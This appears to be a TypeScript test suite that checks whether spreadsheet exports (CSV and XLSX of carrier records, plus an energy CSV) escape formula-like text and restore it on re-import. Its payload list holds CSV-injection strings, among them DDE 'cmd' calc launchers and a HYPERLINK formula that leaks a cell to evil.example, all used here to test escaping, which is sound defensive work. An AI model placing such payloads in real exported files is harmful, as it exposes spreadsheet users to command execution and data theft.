/**
 * CSV / formula injection (docs/security.md, "spreadsheet exports"): a record whose text starts like a formula
 * must reach the officer's spreadsheet as text, in every export (CSV and XLSX of the records, the energy CSV), on
 * both records backends; numbers must stay numbers; and an exported file imported back must give the same values.
 */
import { parseCsv } from '@park/csv';
import ExcelJS from 'exceljs';
import { restoreSpreadsheetText } from '../../apps/api/src/imports/spreadsheet-cell';
import { energyCsv } from '../../apps/api/src/energy/energy-plan';
import { caller, login, type Caller } from '../support/records-api';
import { API_BACKENDS, type ApiBackend } from './support/api-backends';
import { expectAllHandled } from './support/tally';

const PASSWORD = 'csv-export-password';

/** Texts a spreadsheet would run as formulas (OWASP CSV Injection), and near misses that must survive intact. */
const PAYLOADS: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  "-1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
  "'=1+1",
  "''-1+1",
  '-',
  '-12.5',
  '+86 513 8000 0000',
];

/**
 * What a value reads back as from a file of `format`. XML (inside XLSX) turns a bare CR into LF when read — Excel's
 * reading does the same — so a CR survives only the CSV export; that is a property of XLSX, not of the escaping.
 */
const readBack = (format: 'csv' | 'xlsx', value: string) =>
  format === 'xlsx' ? value.replace(/\r\n?/g, '\n') : value;

/** What a spreadsheet program would treat as a formula (or strip down to one). */
const RUNS_AS_FORMULA = /^[=+\-@\t\r\n]/;

const carrierCode = (i: number) => `CSV-INJ-${i}`;

describe.each(API_BACKENDS)('spreadsheet exports on %s', (_mode, createBackend) => {
  let backend: ApiBackend;
  let admin: Caller;
  let token: string;

  beforeAll(async () => {
    backend = await createBackend(PASSWORD);
    token = await login(backend.url, 'admin', PASSWORD);
    admin = caller(backend.url, token);
    for (const [i, payload] of PAYLOADS.entries()) {
      const res = await admin('POST', '/api/carriers', {
        code: carrierCode(i),
        name: payload,
        operator: payload,
        floorAreaM2: 1000 + i + 0.5,
      });
      if (res.status !== 201) throw new Error(`carrier ${i}: ${res.status} ${res.text}`);
    }
  }, 120_000);

  afterAll(async () => {
    await backend?.stop();
  });

  async function exported(format: 'csv' | 'xlsx'): Promise<Buffer> {
    const res = await fetch(`${backend.url}/api/exports/carriers?format=${format}`, {
      headers: { authorization: `Bearer ${token}` },
    });
    if (res.status !== 200) throw new Error(`export ${format}: ${res.status}`);
    return Buffer.from(await res.arrayBuffer());
  }

  /** The carriers' rows of an export as [code, name, floor area, operator] (cells as the spreadsheet sees them). */
  async function rowsOf(format: 'csv' | 'xlsx'): Promise<Map<string, readonly unknown[]>> {
    const body = await exported(format);
    const rows = new Map<string, readonly unknown[]>();
    if (format === 'csv') {
      for (const { cells } of parseCsv(body.toString('utf8')).slice(1))
        rows.set(cells[0], [cells[0], cells[1], cells[2], cells[3]]);
      return rows;
    }
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(body as unknown as ArrayBuffer);
    book.worksheets[0].eachRow((row, n) => {
      if (n === 1) return;
      const cells = [1, 2, 3, 4].map((c) => row.getCell(c).value);
      rows.set(row.getCell(1).text, cells);
    });
    return rows;
  }

  it.each(['csv', 'xlsx'] as const)(
    'writes every formula-like text as text in the %s export, and keeps numbers numbers',
    async (format) => {
      const rows = await rowsOf(format);
      await expectAllHandled(
        'csv-escaping',
        PAYLOADS.flatMap((payload, i) => {
          const row = rows.get(carrierCode(i));
          const shown = JSON.stringify(payload);
          return [
            {
              name: `${format} export of ${shown}: text, not a formula, and restores exactly`,
              check: () =>
                row !== undefined &&
                [row[1], row[3]].every(
                  (cell) =>
                    typeof cell === 'string' &&
                    !RUNS_AS_FORMULA.test(cell) &&
                    restoreSpreadsheetText(cell) === readBack(format, payload),
                ),
            },
            {
              name: `${format} export keeps the floor area of ${shown} a number`,
              check: () =>
                row !== undefined &&
                (format === 'csv' ? row[2] === String(1000 + i + 0.5) : row[2] === 1000 + i + 0.5),
            },
          ];
        }),
      );
    },
  );

  it.each(['csv', 'xlsx'] as const)(
    'imports its own %s export back unchanged (the escaping is undone, not stored)',
    async (format) => {
      const form = new FormData();
      form.append('file', new Blob([new Uint8Array(await exported(format))]), `carriers.${format}`);
      const back = await admin('POST', '/api/imports/carriers', form);
      const list = await admin('GET', '/api/carriers?pageSize=200&q=CSV-INJ');
      const names = new Map(
        (list.body as { items: { code: string; name: string; operator: string | null }[] }).items.map((c) => [
          c.code,
          c,
        ]),
      );
      // Only the CR that XML turns into LF changes (see readBack).
      const changedByXml = PAYLOADS.filter((p) => readBack(format, p) !== p).length;
      await expectAllHandled('csv-escaping', [
        {
          name: `${format} export re-imported changes nothing`,
          check: () =>
            back.status === 201 &&
            (back.body as { updated: number; created: number; errors: unknown[] }).updated === changedByXml &&
            (back.body as { created: number }).created === 0 &&
            (back.body as { errors: unknown[] }).errors.length === 0,
        },
        ...PAYLOADS.map((payload, i) => ({
          name: `${format} round trip keeps ${JSON.stringify(payload)}`,
          check: () =>
            names.get(carrierCode(i))?.name === readBack(format, payload) &&
            names.get(carrierCode(i))?.operator === readBack(format, payload),
        })),
      ]);
    },
  );
});

describe('the energy CSV', () => {
  it('writes formula-like meter names, lines and ids as text, and kWh as numbers', async () => {
    const csv = energyCsv(
      PAYLOADS.map((payload, i) => ({
        date: '2026-12-01',
        deviceId: `meter-${i}`,
        name: payload,
        line: payload,
        role: 'production',
        kwh: -12.5,
        peak: 1,
        flat: 2,
        valley: 3,
      })),
    );
    const rows = parseCsv(csv).slice(1);
    await expectAllHandled(
      'csv-escaping',
      PAYLOADS.map((payload, i) => ({
        name: `energy CSV of ${JSON.stringify(payload)}`,
        check: () => {
          const cells = rows[i].cells;
          return (
            [cells[2], cells[3]].every(
              (c) => !RUNS_AS_FORMULA.test(c) && restoreSpreadsheetText(c) === payload,
            ) && cells[5] === '-12.5'
          );
        },
      })),
    );
  });
});
